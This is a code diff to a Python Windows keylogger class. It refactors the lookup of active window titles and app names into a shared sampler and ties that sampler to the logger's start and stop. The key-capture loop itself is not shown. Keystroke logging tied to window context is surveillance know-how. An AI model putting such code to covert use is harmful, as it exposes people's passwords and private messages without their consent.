@@ -13,6 +13,11 @@ from ctypes import wintypes
 import win32con
 import win32api
 
+try:
+    from .window_sampler import get_window_sampler
+except ImportError:
+    from window_sampler import get_window_sampler
+
 # Key code to character mapping for special keys
 SPECIAL_KEYS = {
     win32con.VK_BACK: '[BACKSPACE]',
@@ -53,10 +58,11 @@ SPECIAL_KEYS = {
 
 
 class Keylogger:
-    def __init__(self, on_keystroke_callback=None):
+    def __init__(self, on_keystroke_callback=None, sampler=None):
         self.running = False
         self.thread = None
         self.on_keystroke = on_keystroke_callback
+        self.sampler = sampler or get_window_sampler()
         self.buffer = deque(maxlen=10000)
         self.current_window = ""
         self.current_app = ""
@@ -120,29 +126,12 @@ class Keylogger:
 
     def get_active_window_title(self):
         """Get the title of the currently active window"""
-        try:
-            import win32gui
-            hwnd = win32gui.GetForegroundWindow()
-            return win32gui.GetWindowText(hwnd) if hwnd else ""
-        except Exception:
-            return ""
+        return self.sampler.current()['title']
 
     def get_active_app_name(self):
         """Get the name of the currently active application"""
-        try:
-            import win32gui
-            import win32process
-            import psutil
-            hwnd = win32gui.GetForegroundWindow()
-            if not hwnd:
-                return "Unknown"
-            _, pid = win32process.GetWindowThreadProcessId(hwnd)
-            if pid:
-                proc = psutil.Process(pid)
-                return proc.name().replace('.exe', '')
-            return "Unknown"
-        except Exception:
-            return "Unknown"
+        app_name = self.sampler.current()['app_name']
+        return app_name.replace('.exe', '') if app_name else "Unknown"
 
     def monitor_loop(self):
         """Main keylogging loop using polling method"""
@@ -210,13 +199,17 @@ class Keylogger:
             return
 
         self.running = True
+        self.sampler.start()
         self.thread = threading.Thread(target=self.monitor_loop, daemon=True)
         self.thread.start()
         print("Keylogger started")
 
     def stop(self):
         """Stop the keylogger"""
+        if not self.running:
+            return
         self.running = False
+        self.sampler.stop()
         self._flush_buffer()  # Flush remaining keys
 
         if self.thread: